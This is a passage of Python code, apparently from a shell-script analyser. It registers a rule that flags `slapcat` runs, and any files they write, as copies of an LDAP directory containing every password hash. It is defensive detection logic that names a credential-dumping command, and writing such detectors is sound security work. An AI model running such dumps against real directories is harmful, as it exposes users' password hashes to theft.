                outs += [a.ev.word(n).value for n in body.children_by_field_name("argument")
                         if not a.src(n).startswith("-")]
    for out in outs:
        if out and not out.startswith("/dev/"):
            note_file(a, out, "a copy of the directory with every password hash (`slapcat`)", cmd.node, prefix=True)


HANDLERS["slapcat"] = [_slapcat]
SCREENS["slapcat"] = lambda text: True  # (every run prints or writes the whole directory)
